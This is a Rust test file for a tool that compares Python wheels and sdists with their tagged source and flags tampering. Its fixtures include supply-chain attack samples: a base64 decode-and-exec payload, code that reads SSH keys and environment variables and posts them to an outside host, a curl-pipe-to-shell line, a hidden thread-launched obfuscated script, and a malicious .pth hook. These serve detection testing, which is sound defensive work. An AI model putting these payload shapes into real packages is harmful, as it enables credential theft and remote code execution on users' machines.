//! The rules that explain legitimate build differences, each with the shape of a real
//! backend's output, and the attack shapes they must not explain.

use crate::common::*;

fn release(sandbox: &Sandbox, source: &[F]) -> Repo {
    let mut repo = Repo::init(&sandbox.join("repo"));
    let commit = repo.commit("Release 1.4.0", source);
    repo.tag("v1.4.0", commit);
    repo
}

fn wheel_path(sandbox: &Sandbox, entries: &[F], tag: &str) -> std::path::PathBuf {
    let path = sandbox.join(&format!("demo-1.4.0-{tag}.whl"));
    write_zip(&path, entries);
    path
}

const PYPROJECT: &str = "[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n\n[project]\nname = \"demo\"\nversion = \"1.4.0\"\ndependencies = [\n    \"requests>=2.21,<3\",\n    \"importlib-metadata>=4; python_version<'3.10'\",\n]\n\n[project.optional-dependencies]\nSocks = [\"PySocks>=1.5.6,!=1.5.7\"]\n\n[project.scripts]\ndemo = \"demo.core:main\"\n";

/// A hatchling-style wheel of a project whose metadata is declared in `[project]`.
fn declared_wheel(headers: &str, entry_points: &str) -> Vec<F> {
    let mut source = demo_source();
    replace(&mut source, "pyproject.toml", PYPROJECT);
    let mut wheel = Wheel::new("demo", "1.4.0", &demo_wheel_files(&source));
    wheel
        .dist_info_files
        .push(f("entry_points.txt", entry_points));
    wheel_entries_with_headers(&wheel, headers)
}

const HATCH_HEADERS: &str = "Requires-Dist: importlib-metadata>=4; python_version < '3.10'\nRequires-Dist: requests<3,>=2.21\nProvides-Extra: socks\nRequires-Dist: pysocks!=1.5.7,>=1.5.6; extra == 'socks'\n";
const HATCH_ENTRY_POINTS: &str = "[console_scripts]\ndemo = demo.core:main\n";

fn declared_source() -> Vec<F> {
    let mut source = demo_source();
    replace(&mut source, "pyproject.toml", PYPROJECT);
    source
}

#[test]
fn declared_dependencies_and_scripts_verify() {
    let sandbox = Sandbox::new();
    let repo = release(&sandbox, &declared_source());
    let wheel = wheel_path(
        &sandbox,
        &declared_wheel(HATCH_HEADERS, HATCH_ENTRY_POINTS),
        "py3-none-any",
    );
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    assert_eq!(verdict_of(&report, 0), "verified");
    assert!(
        findings_with_code(&report, 0, "metadata-mismatch").is_empty(),
        "{:#?}",
        findings_of(&report, 0)
    );
}

#[test]
fn added_dependency_is_a_metadata_mismatch() {
    let sandbox = Sandbox::new();
    let repo = release(&sandbox, &declared_source());
    let headers = format!("{HATCH_HEADERS}Requires-Dist: colorama-helper>=0.1\n");
    let wheel = wheel_path(
        &sandbox,
        &declared_wheel(&headers, HATCH_ENTRY_POINTS),
        "py3-none-any",
    );
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 1);
    let report = run.json();
    let found = findings_with_code(&report, 0, "metadata-mismatch");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0]["severity"], "high");
    assert_eq!(found[0]["path"], "demo-1.4.0.dist-info/METADATA");
    assert_eq!(found[0]["evidence"]["rule"], "declared-metadata");
    assert_eq!(found[0]["evidence"]["change"], "added");
    assert_eq!(found[0]["evidence"]["requirement"], "colorama-helper>=0.1");
    assert_eq!(
        found[0]["evidence"]["declared_in"],
        "pyproject.toml [project]"
    );

    // A relaxed pin is a change, too.
    let headers = HATCH_HEADERS.replace("requests<3,>=2.21", "requests>=0.1");
    let wheel = wheel_path(
        &sandbox,
        &declared_wheel(&headers, HATCH_ENTRY_POINTS),
        "py3-none-any",
    );
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 1);
    let found = findings_with_code(&run.json(), 0, "metadata-mismatch");
    assert_eq!(found[0]["evidence"]["change"], "changed", "{found:#?}");
}

#[test]
fn added_console_script_is_a_metadata_mismatch() {
    let sandbox = Sandbox::new();
    let repo = release(&sandbox, &declared_source());
    let wheel = wheel_path(
        &sandbox,
        &declared_wheel(
            HATCH_HEADERS,
            "[console_scripts]\ndemo = demo.core:main\npip = demo.core:farewell\n",
        ),
        "py3-none-any",
    );
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 1);
    let found = findings_with_code(&run.json(), 0, "metadata-mismatch");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0]["path"], "demo-1.4.0.dist-info/entry_points.txt");
    assert_eq!(found[0]["evidence"]["group"], "console_scripts");
    assert_eq!(found[0]["evidence"]["name"], "pip");
}

#[test]
fn setup_py_metadata_is_reported_unchecked() {
    let sandbox = Sandbox::new();
    let mut source = demo_source();
    source.retain(|f| f.path != "pyproject.toml");
    source.push(f(
        "setup.py",
        "from setuptools import setup, find_packages\n\nsetup(\n    name='demo',\n    version='1.4.0',\n    package_dir={'': 'src'},\n    packages=find_packages('src'),\n    install_requires=['requests>=2'],\n)\n",
    ));
    let repo = release(&sandbox, &source);
    let wheel = Wheel::new("demo", "1.4.0", &demo_wheel_files(&source));
    let entries = wheel_entries_with_headers(&wheel, "Requires-Dist: requests>=2\n");
    let path = wheel_path(&sandbox, &entries, "py3-none-any");
    let run = check_json(&repo.path, &[&path], &[]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    assert_eq!(verdict_of(&report, 0), "verified");
    let found = findings_with_code(&report, 0, "metadata-mismatch");
    assert_eq!(found.len(), 1);
    assert_eq!(found[0]["severity"], "info");
    assert_eq!(found[0]["evidence"]["checked"], false);
    assert!(
        found[0]["message"]
            .as_str()
            .unwrap()
            .contains("could not be checked"),
        "{found:#?}"
    );
}

#[test]
fn setup_cfg_dependencies_are_checked_in_sdist_requires_txt() {
    let sandbox = Sandbox::new();
    let mut source = demo_source();
    source.retain(|f| f.path != "pyproject.toml");
    source.push(f(
        "setup.cfg",
        "[metadata]\nname = demo\nversion = 1.4.0\n\n[options]\npackage_dir =\n    =src\ninstall_requires =\n    requests>=2\n\n[options.extras_require]\nsocks = PySocks>=1.5\n",
    ));
    source.push(f("setup.py", "from setuptools import setup\nsetup()\n"));
    let repo = release(&sandbox, &source);
    let mut files = demo_sdist_files(&source);
    files.push(f(
        "src/demo.egg-info/requires.txt",
        "requests>=2\nevil-helper\n\n[socks]\nPySocks>=1.5\n",
    ));
    files.push(f("src/demo.egg-info/PKG-INFO", metadata("demo", "1.4.0")));
    let sdist = Sdist::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&sdist], &[]);
    assert_eq!(run.code, 1, "{}", run.stdout);
    let found = findings_with_code(&run.json(), 0, "metadata-mismatch");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0]["path"], "src/demo.egg-info/requires.txt");
    assert_eq!(found[0]["evidence"]["requirement"], "evil-helper");
    assert_eq!(found[0]["evidence"]["declared_in"], "setup.cfg [options]");
}

fn core_text() -> String {
    String::from_utf8(
        demo_source()
            .into_iter()
            .find(|f| f.path == "src/demo/core.py")
            .unwrap()
            .content,
    )
    .unwrap()
}

#[test]
fn payload_in_modified_module_is_critical_with_the_line() {
    let sandbox = Sandbox::new();
    let repo = release(&sandbox, &demo_source());
    let mut files = demo_wheel_files(&demo_source());
    // telnyx 4.87.2 shape: a payload appended to an existing module.
    replace(
        &mut files,
        "demo/core.py",
        format!(
            "{}\n\nimport base64 as _b\n_p = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='\nexec(_b.b64decode(_p))\n",
            core_text()
        ),
    );
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 1);
    let report = run.json();
    let modified = findings_with_code(&report, 0, "modified-file");
    assert_eq!(modified[0]["severity"], "critical", "raised, not replaced");
    assert_eq!(
        modified[0]["evidence"]["suspicious_patterns"][0],
        "decode-and-exec"
    );
    let suspicious = findings_with_code(&report, 0, "suspicious-code");
    assert_eq!(suspicious.len(), 1, "{suspicious:#?}");
    assert_eq!(suspicious[0]["path"], "demo/core.py");
    assert_eq!(suspicious[0]["evidence"]["pattern"], "decode-and-exec");
    assert_eq!(suspicious[0]["evidence"]["line"], 11);
    assert_eq!(suspicious[0]["evidence"]["text"], "exec(_b.b64decode(_p))");
    assert_eq!(suspicious[0]["evidence"]["in"], "modified-file");
}

#[test]
fn unchanged_lines_of_a_modified_file_are_not_scanned() {
    let sandbox = Sandbox::new();
    let mut source = demo_source();
    // The project itself launches processes; only the added line is new.
    replace(
        &mut source,
        "src/demo/core.py",
        format!(
            "import subprocess\n\n{}\n\ndef run():\n    return subprocess.run(['ls'])\n",
            core_text()
        ),
    );
    let repo = release(&sandbox, &source);
    let mut files = demo_wheel_files(&source);
    let text = String::from_utf8(
        files
            .iter()
            .find(|f| f.path == "demo/core.py")
            .unwrap()
            .content
            .clone(),
    )
    .unwrap();
    replace(
        &mut files,
        "demo/core.py",
        format!("{text}\n# a harmless comment\nX = 1\n"),
    );
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    let report = run.json();
    assert!(findings_with_code(&report, 0, "suspicious-code").is_empty());
    assert_eq!(
        findings_with_code(&report, 0, "modified-file")[0]["severity"],
        "high"
    );
}

#[test]
fn bittensor_shape_credential_read_and_exfiltration_are_named() {
    let sandbox = Sandbox::new();
    let repo = release(&sandbox, &demo_source());
    let mut files = demo_wheel_files(&demo_source());
    files.push(f(
        "demo/wallet.py",
        "import os, json, urllib.request\n\n\ndef sync():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    env = dict(os.environ)\n    body = json.dumps({'k': key, 'e': env}).encode()\n    urllib.request.urlopen('https://finney.opentensor-metrics.com/api', body)\n",
    ));
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 1);
    let report = run.json();
    let patterns: Vec<String> = findings_with_code(&report, 0, "suspicious-code")
        .iter()
        .map(|f| {
            format!(
                "{} {}",
                f["evidence"]["pattern"].as_str().unwrap(),
                f["evidence"]["line"]
            )
        })
        .collect();
    assert_eq!(
        patterns,
        [
            "credential-read 5",
            "environment-harvest 6",
            "network-literal-host 8"
        ]
    );
    assert_eq!(
        findings_with_code(&report, 0, "extra-file")[0]["severity"],
        "high"
    );
}

#[test]
fn num2words_shape_binary_under_a_python_name_is_critical() {
    let sandbox = Sandbox::new();
    let repo = release(&sandbox, &demo_source());
    let mut files = demo_wheel_files(&demo_source());
    files.push(f(
        "demo/lang_helper.py",
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00PE payload",
    ));
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    let report = run.json();
    let suspicious = findings_with_code(&report, 0, "suspicious-code");
    assert_eq!(
        suspicious[0]["evidence"]["pattern"],
        "binary-under-source-name"
    );
    assert_eq!(suspicious[0]["severity"], "critical");
    assert_eq!(
        findings_with_code(&report, 0, "extra-file")[0]["severity"],
        "critical"
    );
}

#[test]
fn lightning_shape_hidden_script_started_from_init_in_a_thread() {
    let sandbox = Sandbox::new();
    let repo = release(&sandbox, &demo_source());
    let mut files = demo_wheel_files(&demo_source());
    replace(
        &mut files,
        "demo/__init__.py",
        "from .core import greet\n\n__all__ = [\"greet\"]\nimport os as _o, subprocess as _s, threading as _t\n_t.Thread(target=lambda: _s.Popen(['node', _o.path.join(_o.path.dirname(__file__), '_runtime', '.cache', 'run.js')]), daemon=True).start()\n",
    );
    let obfuscated: String = (0..400)
        .map(|i| format!("var _0x{i:04x}=_0x{:04x}('0x{i:x}');", i + 1))
        .collect();
    files.push(f("demo/_runtime/.cache/run.js", obfuscated));
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 1);
    let report = run.json();
    let hits: Vec<String> = findings_with_code(&report, 0, "suspicious-code")
        .iter()
        .map(|f| {
            format!(
                "{} {}",
                f["path"].as_str().unwrap(),
                f["evidence"]["pattern"].as_str().unwrap()
            )
        })
        .collect();
    for expected in [
        "demo/__init__.py process-launch",
        "demo/__init__.py import-time-thread",
        "demo/_runtime/.cache/run.js obfuscated-line",
        "demo/_runtime/.cache/run.js obfuscated-identifiers",
        "demo/_runtime/.cache/run.js hidden-path",
    ] {
        assert!(
            hits.contains(&expected.to_owned()),
            "{expected} not in {hits:#?}"
        );
    }
}

#[test]
fn decode_and_exec_in_a_modified_data_file_is_critical() {
    let sandbox = Sandbox::new();
    let repo = release(&sandbox, &demo_source());
    let mut files = demo_wheel_files(&demo_source());
    replace(
        &mut files,
        "demo/data/words.txt",
        "alpha\nbeta\nexec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
    );
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    let report = run.json();
    let modified = findings_with_code(&report, 0, "modified-file");
    assert_eq!(
        modified[0]["severity"], "critical",
        "a data file, raised from medium"
    );
    assert_eq!(findings_with_code(&report, 0, "suspicious-code").len(), 1);
}

#[test]
fn rewritten_shebang_of_a_wheel_script_is_explained() {
    let sandbox = Sandbox::new();
    let mut source = demo_source();
    let body = "import sys\nfrom demo import greet\n\nprint(greet(sys.argv[1]))\n";
    source.push(exe(
        "bin/demo-greet",
        format!("#!/usr/bin/env python3\n{body}"),
    ));
    let repo = release(&sandbox, &source);
    let mut files = demo_wheel_files(&source);
    files.push(exe(
        "demo-1.4.0.data/scripts/demo-greet",
        format!("#!python\n{body}"),
    ));
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &["--explain"]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    assert_eq!(verdict_of(&report, 0), "verified");
    let traced = traces(&report, 0);
    let script = traced.iter().find(|t| t.0.ends_with("demo-greet")).unwrap();
    assert_eq!(
        (script.1.as_str(), script.2.as_str(), script.3.as_str()),
        ("generated", "bin/demo-greet", "script-shebang")
    );

    // Anything changed beyond the first line is a modification.
    let mut files = demo_wheel_files(&source);
    files.push(exe(
        "demo-1.4.0.data/scripts/demo-greet",
        format!("#!python\n{body}import os; os.system('curl -s http://203.0.113.9/x | sh')\n"),
    ));
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 1);
    let report = run.json();
    let modified = findings_with_code(&report, 0, "modified-file");
    assert_eq!(modified[0]["evidence"]["source_path"], "bin/demo-greet");
    assert!(!findings_with_code(&report, 0, "suspicious-code").is_empty());
}

const PDM_SOURCE: &str = "[project]\nname = \"demo\"\ndynamic = [\"version\"]\ndescription = \"A demo\"\nrequires-python = \">=3.9\"\ndependencies = [\"requests>=2\"]\n\n[project.optional-dependencies]\nsocks = [\"PySocks>=1.5\"]\n\n[tool.pdm.version]\nsource = \"file\"\npath = \"src/demo/__init__.py\"\n\n[build-system]\nrequires = [\"pdm-backend\"]\nbuild-backend = \"pdm.backend\"\n";
/// pdm-backend's sdist copy: re-serialised, version resolved, `dynamic` emptied.
const PDM_SDIST: &str = "[build-system]\nrequires = [\n    \"pdm-backend\",\n]\nbuild-backend = \"pdm.backend\"\n\n[project]\nname = \"demo\"\ndynamic = []\ndescription = \"A demo\"\nrequires-python = \">=3.9\"\ndependencies = [\n    \"requests>=2\",\n]\nversion = \"1.4.0\"\n\n[project.optional-dependencies]\nsocks = [\n    \"PySocks>=1.5\",\n]\n\n[tool.pdm.version]\nsource = \"file\"\npath = \"src/demo/__init__.py\"\n";

#[test]
fn pdm_backend_sdist_pyproject_with_substituted_version_verifies() {
    let sandbox = Sandbox::new();
    let mut source = demo_source();
    replace(&mut source, "pyproject.toml", PDM_SOURCE);
    let repo = release(&sandbox, &source);
    let mut files = demo_sdist_files(&source);
    replace(&mut files, "pyproject.toml", PDM_SDIST);
    let sdist = Sdist::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&sdist], &[]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    assert_eq!(verdict_of(&report, 0), "verified");
    let found = findings_with_code(&report, 0, "version-substitution");
    assert_eq!(found[0]["path"], "pyproject.toml");
    assert_eq!(found[0]["severity"], "info");
    assert_eq!(found[0]["evidence"]["rule"], "version-substitution");
    assert_eq!(found[0]["evidence"]["version"], "1.4.0");

    // Any other change in the same file is a modification, and says what changed.
    replace(
        &mut files,
        "pyproject.toml",
        PDM_SDIST.replace(
            "\"requests>=2\",\n",
            "\"requests>=2\",\n    \"evil-helper\",\n",
        ),
    );
    let sdist = Sdist::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&sdist], &[]);
    assert_eq!(run.code, 1);
    let modified = findings_with_code(&run.json(), 0, "modified-file");
    assert_eq!(
        modified[0]["evidence"]["rule_failed"],
        "besides the version, `project.dependencies` changed"
    );
}

#[test]
fn literal_version_substituted_into_a_module_verifies() {
    let sandbox = Sandbox::new();
    let mut source = demo_source();
    replace(
        &mut source,
        "src/demo/__init__.py",
        "from .core import greet\n\n__version__ = \"0.0.0\"  # replaced at build time\n__all__ = [\"greet\"]\n",
    );
    let repo = release(&sandbox, &source);
    let mut files = demo_wheel_files(&source);
    replace(
        &mut files,
        "demo/__init__.py",
        "from .core import greet\n\n__version__ = \"1.4.0\"\n__all__ = [\"greet\"]\n",
    );
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let found = findings_with_code(&run.json(), 0, "version-substitution");
    assert_eq!(found[0]["path"], "demo/__init__.py");

    // Another version, or another change, is not a substitution.
    replace(
        &mut files,
        "demo/__init__.py",
        "from .core import greet\n\n__version__ = \"1.4.0\"\n__all__ = [\"greet\", \"x\"]\n",
    );
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    assert_eq!(check_json(&repo.path, &[&wheel], &[]).code, 1);
}

#[test]
fn gzip_copy_of_a_tree_file_matches() {
    let sandbox = Sandbox::new();
    let mut source = demo_source();
    let json = "{\"version\": \"2.0\", \"operations\": {}}\n".repeat(50);
    source.push(f("src/demo/data/service-2.json", &json));
    let repo = release(&sandbox, &source);
    let gz = |text: &str| {
        use std::io::Write;
        let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        enc.write_all(text.as_bytes()).unwrap();
        enc.finish().unwrap()
    };
    let mut files: Vec<F> = demo_wheel_files(&source)
        .into_iter()
        .filter(|f| !f.path.ends_with("service-2.json"))
        .collect();
    files.push(f("demo/data/service-2.json.gz", gz(&json)));
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &["--explain"]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    let traced = traces(&report, 0);
    let copy = traced.iter().find(|t| t.0.ends_with(".gz")).unwrap();
    assert_eq!(
        (copy.1.as_str(), copy.2.as_str(), copy.3.as_str()),
        ("matched", "src/demo/data/service-2.json", "gzip-copy")
    );

    let mut files: Vec<F> = files
        .into_iter()
        .filter(|f| !f.path.ends_with(".gz"))
        .collect();
    files.push(f(
        "demo/data/service-2.json.gz",
        gz(&json.replace("2.0", "6.6")),
    ));
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(verdict_of(&run.json(), 0), "partial", "a changed data copy");
}

#[test]
fn files_matched_through_a_tree_symlink_name_the_link() {
    let sandbox = Sandbox::new();
    let mut repo = Repo::init(&sandbox.join("repo"));
    let source = demo_source();
    let mut entries: Vec<(String, git2::Oid, i32)> = source
        .iter()
        .map(|file| {
            (
                file.path.clone(),
                repo.repo.blob(&file.content).unwrap(),
                0o100644,
            )
        })
        .collect();
    entries.push((
        "shared/schema.json".into(),
        repo.repo.blob(b"{\"type\": \"object\"}\n").unwrap(),
        0o100644,
    ));
    // src/demo/schemas -> ../../shared
    entries.push((
        "src/demo/schemas".into(),
        repo.repo.blob(b"../../shared").unwrap(),
        0o120000,
    ));
    let tree = repo.tree(&entries);
    let commit = repo.commit_tree("Release", tree);
    repo.tag("v1.4.0", commit);
    let mut files = demo_wheel_files(&source);
    files.push(f("demo/schemas/schema.json", "{\"type\": \"object\"}\n"));
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &["--explain"]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    assert_eq!(verdict_of(&report, 0), "verified");
    let traced = traces(&report, 0);
    let copy = traced
        .iter()
        .find(|t| t.0 == "demo/schemas/schema.json")
        .unwrap();
    assert_eq!(
        (copy.1.as_str(), copy.2.as_str(), copy.3.as_str()),
        ("matched", "src/demo/schemas/schema.json", "tree-symlink")
    );
}

#[test]
fn pth_written_by_the_projects_build_code_is_a_low_startup_hook() {
    let sandbox = Sandbox::new();
    let mut source = demo_source();
    source.retain(|f| f.path != "pyproject.toml");
    // setuptools' own shape: setup.py writes distutils-precedence.pth into the build.
    source.push(f(
        "setup.py",
        "import os\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py\n\n\nclass build_with_pth(build_py):\n    def run(self):\n        super().run()\n        target = os.path.join(self.build_lib, 'demo-precedence.pth')\n        with open(target, 'w') as f:\n            f.write(\"import os; var = 'DEMO_PRECEDENCE'\\n\")\n\n\nsetup(cmdclass={'build_py': build_with_pth})\n",
    ));
    let repo = release(&sandbox, &source);
    let mut files = demo_wheel_files(&source);
    files.push(f(
        "demo-precedence.pth",
        "import os; var = 'DEMO_PRECEDENCE'\n",
    ));
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    let hook = findings_with_code(&report, 0, "startup-hook");
    assert_eq!(hook[0]["severity"], "low", "never silent");
    assert_eq!(hook[0]["evidence"]["named_in"], "setup.py");
    assert_eq!(hook[0]["evidence"]["named_line"], 9);
    let generated = findings_with_code(&report, 0, "generated-file");
    let pth = generated
        .iter()
        .find(|g| g["path"] == "demo-precedence.pth")
        .unwrap();
    assert_eq!(pth["severity"], "low");
    assert_eq!(pth["evidence"]["rule"], "build-generated");

    // Any other .pth stays critical.
    let mut files = demo_wheel_files(&source);
    files.push(f(
        "demo-setup.pth",
        "import os; exec(os.environ.get('X', ''))\n",
    ));
    let wheel = Wheel::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&wheel], &[]);
    assert_eq!(run.code, 1);
    let hook = findings_with_code(&run.json(), 0, "startup-hook");
    assert_eq!(hook[0]["severity"], "critical");
}

#[test]
fn cython_output_in_sdist_is_unverified_with_its_pyx_named() {
    let sandbox = Sandbox::new();
    let mut source = demo_source();
    source.push(f(
        "src/demo/_fast.pyx",
        "def add(int a, int b):\n    return a + b\n",
    ));
    let repo = release(&sandbox, &source);
    let mut files = demo_sdist_files(&source);
    files.push(f(
        "src/demo/_fast.c",
        "/* Generated by Cython 3.0.11 */\n\n#define PY_SSIZE_T_CLEAN\n#include \"Python.h\"\n",
    ));
    let sdist = Sdist::new("demo", "1.4.0", &files).write(sandbox.path());
    let run = check_json(&repo.path, &[&sdist], &[]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    assert_eq!(verdict_of(&report, 0), "partial");
    let found = findings_with_code(&report, 0, "binary-unverified");
    assert_eq!(found[0]["evidence"]["rule"], "cython-output");
    assert_eq!(found[0]["evidence"]["generated_from"], "src/demo/_fast.pyx");
}

#[test]
fn maturin_wheel_init_and_rust_module() {
    let sandbox = Sandbox::new();
    let source = vec![
        f(
            "Cargo.toml",
            "[package]\nname = \"demo\"\nversion = \"1.4.0\"\n\n[lib]\nname = \"demo\"\ncrate-type = [\"cdylib\"]\n",
        ),
        f("src/lib.rs", "use pyo3::prelude::*;\n"),
        f(
            "pyproject.toml",
            "[build-system]\nrequires = [\"maturin>=1,<2\"]\nbuild-backend = \"maturin\"\n\n[project]\nname = \"demo\"\ndynamic = [\"version\"]\n",
        ),
        f("demo.pyi", "def greet(name: str) -> str: ...\n"),
    ];
    let repo = release(&sandbox, &source);
    let so = "demo/demo.cpython-312-x86_64-linux-gnu.so";
    let files = vec![
        f(
            "demo/__init__.py",
            "from .demo import *\n\n__doc__ = demo.__doc__\nif hasattr(demo, \"__all__\"):\n    __all__ = demo.__all__",
        ),
        f("demo/__init__.pyi", "def greet(name: str) -> str: ...\n"),
        f(so, b"\x7fELF\x02\x01\x01\0rust"),
    ];
    let mut wheel = Wheel::new("demo", "1.4.0", &files);
    wheel.tag = "cp312-cp312-manylinux_2_17_x86_64".into();
    let path = wheel.write(sandbox.path());
    let run = check_json(&repo.path, &[&path], &["--explain"]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let report = run.json();
    assert_eq!(verdict_of(&report, 0), "partial");
    let traced = traces(&report, 0);
    let init = traced.iter().find(|t| t.0 == "demo/__init__.py").unwrap();
    assert_eq!(init.3, "maturin-init");
    let module = traced.iter().find(|t| t.0 == so).unwrap();
    assert_eq!(
        (module.1.as_str(), module.2.as_str()),
        ("unverified", "Cargo.toml")
    );

    // An __init__.py that does more than maturin's template is not explained.
    let mut files = files.clone();
    files[0] = f(
        "demo/__init__.py",
        "from .demo import *\nimport os\nos.system('id')\n",
    );
    let mut wheel = Wheel::new("demo", "1.4.0", &files);
    wheel.tag = "cp312-cp312-manylinux_2_17_x86_64".into();
    let path = wheel.write(sandbox.path());
    assert_eq!(check_json(&repo.path, &[&path], &[]).code, 1);
}

#[test]
fn an_unrelated_cargo_toml_does_not_explain_a_compiled_module() {
    let sandbox = Sandbox::new();
    let mut source = demo_source();
    source.push(f("tools/xtask/Cargo.toml", "[package]\nname = \"xtask\"\n"));
    let repo = release(&sandbox, &source);
    let mut files = demo_wheel_files(&source);
    files.push(f(
        "demo/_miner.cpython-312-x86_64-linux-gnu.so",
        b"\x7fELF\x02payload",
    ));
    let mut wheel = Wheel::new("demo", "1.4.0", &files);
    wheel.tag = "cp312-cp312-manylinux_2_17_x86_64".into();
    let path = wheel.write(sandbox.path());
    let run = check_json(&repo.path, &[&path], &[]);
    assert_eq!(run.code, 1);
    let found = findings_with_code(&run.json(), 0, "binary-unverified");
    assert_eq!(found[0]["severity"], "high");
}

#[test]
fn accidental_extras_keep_the_verdict_partial() {
    let sandbox = Sandbox::new();
    let repo = release(&sandbox, &demo_source());
    for (path, content) in [
        ("vendor/lib/.git", "gitdir: ../../.git/modules/vendor/lib\n"),
        (".hg_archival.txt", "repo: 0123\nnode: 4567\n"),
        (".coverage", "SQLite format 3\0"),
        ("src/demo/__pycache__/core.cpython-312.pyc", "\u{cb}\r\r\n"),
    ] {
        let mut files = demo_sdist_files(&demo_source());
        files.push(f(path, content));
        let sdist = Sdist::new("demo", "1.4.0", &files).write(sandbox.path());
        let run = check_json(&repo.path, &[&sdist], &[]);
        assert_eq!(run.code, 0, "{path}: {}", run.stdout);
        let report = run.json();
        assert_eq!(verdict_of(&report, 0), "partial", "{path}");
        assert_eq!(
            findings_of(&report, 0)[0],
            format!("medium extra-file {path}")
        );
    }
}

#[test]
fn pep639_license_copies_keep_their_folders() {
    let sandbox = Sandbox::new();
    let mut source = demo_source();
    source.push(f(
        "LICENSES/MIT.txt",
        "MIT License\n\nPermission is hereby granted...\n",
    ));
    source.push(f(
        "LICENSES/Apache-2.0.txt",
        "Apache License\nVersion 2.0\n",
    ));
    let repo = release(&sandbox, &source);
    let mut wheel = Wheel::new("demo", "1.4.0", &demo_wheel_files(&source));
    wheel.dist_info_files = vec![
        f(
            "licenses/LICENSE",
            "MIT License\n\nCopyright (c) 2026 Demo\n",
        ),
        f(
            "licenses/LICENSES/MIT.txt",
            "MIT License\n\nPermission is hereby granted...\n",
        ),
        f(
            "licenses/LICENSES/Apache-2.0.txt",
            "Apache License\nVersion 2.0\n",
        ),
    ];
    let path = wheel.write(sandbox.path());
    let run = check_json(&repo.path, &[&path], &["--explain"]);
    assert_eq!(run.code, 0, "{}", run.stdout);
    let traced = traces(&run.json(), 0);
    let mit = traced
        .iter()
        .find(|t| t.0.ends_with("licenses/LICENSES/MIT.txt"))
        .unwrap();
    assert_eq!(
        (mit.2.as_str(), mit.3.as_str()),
        ("LICENSES/MIT.txt", "license-copy")
    );

    // A license text changed in the wheel is a modification of the file it names.
    wheel.dist_info_files[2] = f(
        "licenses/LICENSES/Apache-2.0.txt",
        "Apache License\nVersion 2.0\nAdditional terms apply.\n",
    );
    let path = wheel.write(sandbox.path());
    let run = check_json(&repo.path, &[&path], &[]);
    let modified = findings_with_code(&run.json(), 0, "modified-file");
    assert_eq!(
        modified[0]["evidence"]["source_path"],
        "LICENSES/Apache-2.0.txt"
    );
}
